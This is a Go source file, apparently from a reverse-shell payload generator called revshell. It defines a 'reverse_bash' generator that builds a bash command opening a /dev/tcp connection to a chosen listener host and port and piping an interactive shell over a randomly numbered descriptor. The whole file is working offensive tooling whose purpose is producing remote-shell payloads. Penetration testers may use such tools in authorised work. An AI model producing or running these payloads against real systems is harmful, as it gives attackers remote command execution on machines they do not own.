package unix

import (
	"fmt"
	"math/rand"

	"github.com/josephlewis42/revshell/core/payload"
)

// randIntn picks the descriptor the connection is opened on.
var randIntn = rand.Intn

// ReverseBash connects back using bash's /dev/tcp pseudo-device.
var ReverseBash = &payload.Generator{
	Name: "reverse_bash",
	Doc: `Creates an interactive shell via bash's builtin /dev/tcp.

The socket is opened on a random descriptor between 20 and 219 so it doesn't
collide with descriptors the shell already uses.`,
	Params: listener(
		payload.Option("bash_path", payload.StringValue("bash")),
		payload.Option("shell_path", payload.StringValue("sh")),
	),
	Render: reverseBash,
}

func reverseBash(lhost string, lport int, opts *payload.OptionSet) (string, error) {
	bashPath := opts.StringOr("bash_path", "/bin/bash")
	shellPath := opts.StringOr("shell_path", "/bin/sh")

	fd := 20 + randIntn(200)
	script := fmt.Sprintf("0<&%[1]d-;exec %[1]d<>/dev/tcp/%[2]s/%[3]d;%[4]s <&%[1]d >&%[1]d 2>&%[1]d",
		fd, lhost, lport, shellPath)

	quoted, err := quote(script)
	if err != nil {
		return "", err
	}
	return bashPath + " -c " + quoted, nil
}
